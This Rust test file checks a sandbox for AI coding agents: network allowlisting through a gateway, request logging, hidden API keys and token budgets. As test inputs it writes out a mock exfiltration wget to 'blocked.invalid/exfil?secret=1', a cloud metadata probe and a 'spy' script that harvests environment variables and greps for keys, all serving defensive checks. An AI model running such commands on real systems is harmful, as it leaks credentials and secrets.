//! Issue 15 through the CLI: a run in a container with `network=allowlist` reaches only what
//! the project allows, through Corral's gateway, and every request is on the record.

use std::io::{Read, Write};
use std::net::TcpListener;

use super::agents::node_image;
use super::model_server::model_server;
use super::{Env, json, test_image};

/// The requests through the gateway in a run's `logs --json`.
pub(super) fn network_requests(log: &str) -> Vec<serde_json::Value> {
    log.lines()
        .map(json)
        .filter(|e| e["kind"] == "network")
        .map(|e| e["request"].clone())
        .collect()
}

/// A one-page web server on 127.0.0.1 (this machine, outside any container); counts visits.
fn web_server() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let visits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = visits.clone();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut buf = [0u8; 4096];
            let _ = stream.read(&mut buf);
            let _ = stream.write_all(
                b"HTTP/1.1 200 OK\r\ncontent-length: 14\r\nconnection: close\r\n\r\nhello, allowed",
            );
        }
    });
    (port, visits)
}

#[test]
fn a_step_reaches_an_allowed_host_through_the_proxy_and_is_refused_the_rest_on_the_record() {
    test_image();
    let (port, visits) = web_server();
    let env = Env::new();
    // The allowlist names the loopback address itself: the one way the gateway reaches an
    // internal address. The step unsets NO_PROXY so its request to 127.0.0.1 goes to the
    // proxy (which is on the container's own loopback) rather than nowhere.
    env.project(
        "r",
        &["agent-image=corral-test/busybox:1", "allow-hosts=127.0.0.1"],
    );
    let script = format!(
        "unset NO_PROXY no_proxy; wget -qO- http://127.0.0.1:{port}/page > got.txt; \
         if wget -qO- http://blocked.invalid/exfil?secret=1; then echo LEAKED; exit 1; fi; \
         if wget -qO- http://169.254.169.254/latest/meta-data/; then echo LEAKED; exit 1; fi; \
         ls /sys/class/net"
    );
    env.sh_task("r", "Fetch", &script);
    let ran = env.corral_with(&["run", "Fetch", "--follow", "--json"], &[]);
    assert_eq!(ran.code, 0, "{}\n{}", ran.stderr, ran.stdout);
    let events: Vec<serde_json::Value> = ran.stdout.lines().map(json).collect();
    let stdout: Vec<&str> = events
        .iter()
        .filter(|e| e["kind"] == "output" && e["stream"] == "stdout")
        .filter_map(|e| e["line"].as_str())
        .collect();
    assert_eq!(stdout, ["lo"], "no interface but loopback, nothing leaked");
    assert_eq!(visits.load(std::sync::atomic::Ordering::SeqCst), 1);

    let run = json(&env.ok(&["runs", "--json"]))[0].clone();
    let id = run["id"].as_str().expect("id");
    let requests = network_requests(&env.ok(&["logs", id, "--json"]));
    assert_eq!(requests.len(), 3, "{requests:?}");
    assert_eq!(requests[0]["host"], "127.0.0.1");
    assert_eq!(requests[0]["status"], 200);
    assert!(requests[0]["blocked"].is_null());
    assert_eq!(requests[1]["host"], "blocked.invalid");
    assert_eq!(requests[1]["path"], "/exfil", "never the query");
    assert_eq!(requests[1]["blocked"]["rule"], "not_allowed");
    assert_eq!(requests[2]["blocked"]["rule"], "not_allowed");
    assert!(
        !format!("{requests:?}").contains("secret=1"),
        "queries are never recorded"
    );

    let shown = env.ok(&["run", "show", id]);
    assert!(
        shown.contains("network    3 requests, 2 blocked: blocked.invalid, 169.254.169.254"),
        "{shown}"
    );
    let shown = json(&env.ok(&["run", "show", id, "--json"]));
    assert_eq!(shown["network"]["blocked"], 2, "{shown}");
}

#[test]
fn an_agent_on_a_project_with_no_network_is_refused_before_anything_starts() {
    let env = Env::new();
    env.project("r", &["network=none", "runtime=claude-code"]);
    env.prompt_task("r", "Agent", "hi");
    let ran = env.corral_with(&["run", "Agent"], &[("ANTHROPIC_API_KEY", "sk-x")]);
    assert_eq!(ran.code, 1, "{}", ran.stdout);
    assert!(ran.stderr.contains("network=allowlist"), "{}", ran.stderr);
    assert_eq!(
        json(&env.ok(&["runs", "--json"])).as_array().map(Vec::len),
        Some(0),
        "nothing started"
    );
    let shown = env.ok(&["project", "show", "r"]);
    assert!(shown.contains("none: no network at all"), "{shown}");
    let bad = env.corral_with(&["project", "set", "r", "allow-hosts=exa mple.com"], &[]);
    assert_eq!(bad.code, 1, "{}", bad.stderr);
    assert!(bad.stderr.contains("allow-hosts"), "{}", bad.stderr);
    let bad = env.corral_with(&["project", "set", "r", "build-network=allowlist"], &[]);
    assert_ne!(bad.code, 0);
}

/// What an agent in a container can see: its environment, every process's environment, its
/// home, and Docker's record of the container hold the placeholder, never the key; the
/// project's upstream URL is not there either. The "agent" is a script standing in for
/// `claude` that writes down what it sees.
#[test]
fn inside_the_container_there_is_only_the_placeholder() {
    test_image();
    let env = Env::new();
    let repo = env.repo("r");
    std::fs::create_dir_all(repo.join("bin")).expect("bin");
    let spy = "#!/bin/sh\n\
        env > env.txt\n\
        for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done > proc-environ.txt 2>/dev/null\n\
        grep -r sk- /corral/run/home > home-grep.txt 2>/dev/null\n\
        touch /corral/run/inspect-now; sleep 3\n";
    let script = repo.join("bin/claude");
    std::fs::write(&script, spy).expect("spy");
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    corral_testkit::git(&repo, &["add", "."]);
    corral_testkit::git(&repo, &["commit", "-qm", "spy"]);
    env.ok(&["project", "add", super::s(&repo)]);
    env.ok(&[
        "project",
        "set",
        "r",
        "agent-image=corral-test/busybox:1",
        "runtime=claude-code",
        "env.PATH=/workspace/bin:/bin",
        "env.ANTHROPIC_BASE_URL=http://upstream-with-token.invalid/t0ken",
    ]);
    env.prompt_task("r", "Spy", "look around");
    let secret = "sk-corral-spy-test-0123456789";
    let mut run = std::process::Command::new(env!("CARGO_BIN_EXE_corral"))
        .args(["run", "Spy", "--follow"])
        .env("CORRAL_DATA_DIR", &env.data)
        .env("ANTHROPIC_API_KEY", secret)
        .env_remove("CORRAL_LOG")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("corral runs");
    // While the agent sleeps, Docker's record of its container.
    let instance = format!("label=corral.instance={}", env.data.display());
    let mut inspected = String::new();
    for _ in 0..600 {
        let ids = std::process::Command::new("docker")
            .args(["ps", "-q", "--filter", &instance])
            .output()
            .expect("docker ps");
        let ids = String::from_utf8_lossy(&ids.stdout).trim().to_string();
        if !ids.is_empty() {
            let out = std::process::Command::new("docker")
                .args(["inspect", &ids])
                .output()
                .expect("docker inspect");
            inspected = String::from_utf8_lossy(&out.stdout).into_owned();
            if inspected.contains("corral.run") {
                break;
            }
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert!(run.wait().expect("ends").success());
    assert!(inspected.contains("corral.run"), "the container was seen");
    assert!(!inspected.contains(secret), "docker inspect holds no key");

    let runs = json(&env.ok(&["runs", "--json"]));
    let branch = runs[0]["branch"].as_str().expect("branch");
    let seen = |file: &str| super::file_on_branch(&repo, branch, file);
    let environment = seen("env.txt");
    assert!(
        environment.contains("ANTHROPIC_API_KEY=corral-placeholder-"),
        "{environment}"
    );
    assert!(environment.contains("ANTHROPIC_BASE_URL=http://127.0.0.1:47181"));
    assert!(environment.contains("HTTPS_PROXY=http://127.0.0.1:47180"));
    assert!(
        !environment.contains("t0ken"),
        "the upstream stays outside: {environment}"
    );
    for file in ["env.txt", "proc-environ.txt", "home-grep.txt"] {
        assert!(!seen(file).contains(secret), "{file} holds the key");
    }
    assert!(seen("proc-environ.txt").contains("corral-placeholder-"));
}

/// A run past its token budget: the gateway refuses the agent's next model call and the run
/// fails saying why.
#[test]
fn the_token_budget_stops_a_claude_code_run_through_the_gateway() {
    let (url, _requests) = model_server();
    let env = Env::new();
    let base = format!("base-image={}", node_image());
    let upstream = format!("env.ANTHROPIC_BASE_URL={url}");
    env.project(
        "r",
        &[
            &base,
            &upstream,
            "runtime=claude-code",
            "model=claude-sonnet-4-5",
            "build-network=host",
            "agent-permissions=bypass",
            "budget-tokens=1",
        ],
    );
    env.prompt_task("r", "Hello agent", "Write hello.txt");
    let ran = env.corral_with(
        &["run", "Hello agent", "--follow", "--json"],
        &[("ANTHROPIC_API_KEY", "sk-corral-budget-test")],
    );
    assert_eq!(ran.code, 1, "{}\n{}", ran.stderr, ran.stdout);
    let run = json(&env.ok(&["runs", "--json"]))[0].clone();
    assert_eq!(run["failure"]["kind"], "token_budget", "{run}");
    let id = run["id"].as_str().expect("id");
    let log = env.ok(&["logs", id, "--json"]);
    assert!(
        log.lines()
            .map(json)
            .any(|e| e["kind"] == "network" && e["request"]["blocked"]["rule"] == "budget_spent"),
        "{log}"
    );
    let shown = env.ok(&["run", "show", id]);
    assert!(shown.contains("budget-tokens"), "{shown}");
}

/// A project whose task "Later" waits `secs`, then fetches a page of this machine through the
/// gateway's proxy (and says `fetched`); the page's visit count.
fn later_fetch(secs: u32) -> (Env, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    test_image();
    let (port, visits) = web_server();
    let env = Env::new();
    env.project(
        "r",
        &["agent-image=corral-test/busybox:1", "allow-hosts=127.0.0.1"],
    );
    let script = format!(
        "unset NO_PROXY no_proxy; echo waiting; sleep {secs}; \
         wget -qO- http://127.0.0.1:{port}/after > after.txt && echo fetched"
    );
    env.sh_task("r", "Later", &script);
    (env, visits)
}

/// Corral killed while a run's step waits: the relay in its container loses its link; the
/// next Corral to pick the run up links it again, and the step's request goes through.
#[test]
fn a_corral_that_picks_a_live_run_up_links_its_container_again() {
    let (env, visits) = later_fetch(4);
    let mut first = env.spawn(&["run", "Later", "--follow"], false);
    let run_id = super::running_run(&env);
    std::thread::sleep(std::time::Duration::from_millis(500));
    first.kill().expect("SIGKILL");
    first.wait().expect("reaped");
    assert_eq!(visits.load(std::sync::atomic::Ordering::SeqCst), 0);

    let ran = env.corral(&["logs", &run_id, "--follow", "--json"]);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    assert!(
        ran.stdout.lines().map(json).any(|e| e["line"] == "fetched"),
        "the request after the restart went through: {}",
        ran.stdout
    );
    assert_eq!(visits.load(std::sync::atomic::Ordering::SeqCst), 1);
    let shown = json(&env.ok(&["run", "show", &run_id, "--json"]));
    assert_eq!(shown["state"], "succeeded", "{shown}");
    assert_eq!(shown["network"]["requests"], 1, "{shown}");
}

/// The relay dies inside the container (killed as its own user: the sandbox's processes, root
/// included, cannot signal it, having no CAP_KILL): the run goes on, its log says the relay
/// stopped and the link came back, and the step's request after it goes through.
#[test]
fn the_relay_killed_in_its_container_is_linked_again_and_the_log_says_so() {
    let (env, visits) = later_fetch(5);
    let following = env.spawn(&["run", "Later", "--follow"], false);
    let run_id = super::running_run(&env);
    let container = json(&env.ok(&["run", "show", &run_id, "--json"]))["container_id"]
        .as_str()
        .map(str::to_string);
    // The container's id as docker knows it, from its run label.
    let id = container.unwrap_or_else(|| {
        let out = std::process::Command::new("docker")
            .args([
                "ps",
                "-q",
                "--filter",
                &format!("label=corral.run={run_id}"),
            ])
            .output()
            .expect("docker ps");
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    });
    std::thread::sleep(std::time::Duration::from_millis(800));
    // Root in the container cannot: it has no CAP_KILL over another user's process.
    let refused = std::process::Command::new("docker")
        .args([
            "exec",
            "-u",
            "0",
            &id,
            "sh",
            "-c",
            "kill -9 $(pidof corral-relay)",
        ])
        .output()
        .expect("docker exec");
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("Operation not permitted"),
        "{}",
        String::from_utf8_lossy(&refused.stderr)
    );
    let killed = std::process::Command::new("docker")
        .args([
            "exec",
            "-u",
            "65534",
            &id,
            "sh",
            "-c",
            "kill -9 $(pidof corral-relay)",
        ])
        .output()
        .expect("docker exec");
    assert!(
        killed.status.success(),
        "{}",
        String::from_utf8_lossy(&killed.stderr)
    );

    let mut following = following;
    following.wait().expect("the run ends");
    let shown = json(&env.ok(&["run", "show", &run_id, "--json"]));
    let log = env.ok(&["logs", &run_id]);
    assert_eq!(shown["state"], "succeeded", "{log}");
    assert!(log.contains("the relay in the container stopped"), "{log}");
    assert!(log.contains("linked to the container again"), "{log}");
    assert!(log.contains("fetched"), "{log}");
    assert_eq!(visits.load(std::sync::atomic::Ordering::SeqCst), 1);
}
